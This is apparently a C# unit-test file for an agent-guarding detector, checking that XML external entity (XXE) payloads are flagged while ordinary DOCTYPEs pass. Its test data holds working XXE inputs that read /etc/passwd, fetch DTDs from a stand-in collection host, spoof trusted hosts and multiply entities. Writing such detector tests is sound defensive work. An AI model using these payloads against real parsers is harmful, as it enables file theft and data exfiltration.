namespace AgentGate.Tests.Threats.Html;

public sealed class XxeTests
{
    [Theory]
    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>")]
    [InlineData("<!DOCTYPE foo [<!ENTITY x PUBLIC \"a\" \"http://collect.example/x\">]>")]
    [InlineData("<!DOCTYPE foo [<!ENTITY % x SYSTEM \"http://collect.example/x.dtd\"> %x;]>")]
    [InlineData("<!DOCTYPE l [<!ENTITY a \"l\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>")]
    [InlineData("<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></x>")]
    public void Entities_that_fetch_or_multiply_are_caught(string text) => Judge.Caught(text);

    [Theory]
    [InlineData("<!DOCTYPE r SYSTEM \"http://collect.example/x.dtd\">")]
    [InlineData("<!DOCTYPE r PUBLIC \"-//r//r//EN\" \"http://collect.example/x.dtd\">")]
    [InlineData("<!DOCTYPE r PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org.collect.example/x.dtd\">")]
    [InlineData("<!DOCTYPE r PUBLIC '-//W3C//DTD XHTML 1.0 Strict//EN' 'http://www.w3.org@collect.example/x.dtd'>")]
    [InlineData("<!DOCTYPE r [<!ENTITY a \"aaa\">]>")]
    [InlineData("<xsl:value-of select=\"document('/etc/passwd')\"/>")]
    [InlineData("<x><![CDATA[<]]>script<![CDATA[>]]></x>")]
    public void What_a_document_type_may_explain_counts_in_arguments(string text)
    {
        Judge.CaughtAsArgument(text);
        Judge.CleanInChat(text);
    }

    [Theory]
    [InlineData("<!DOCTYPE html>")]
    [InlineData("<!DOCTYPE html SYSTEM \"about:legacy-compat\">")]
    [InlineData("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html></html>")]
    [InlineData("<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>")]
    [InlineData("<!DOCTYPE html PUBLIC \"-//IETF//DTD HTML//EN\"><html></html>")]
    [InlineData("<?xml version=\"1.0\"?><note><to>Tove</to></note>")]
    [InlineData("<xsl:value-of select=\"name\"/>")]
    [InlineData("<![CDATA[a < b]]>")]
    public void Plain_documents_pass(string text) => Judge.Clean(text);
}
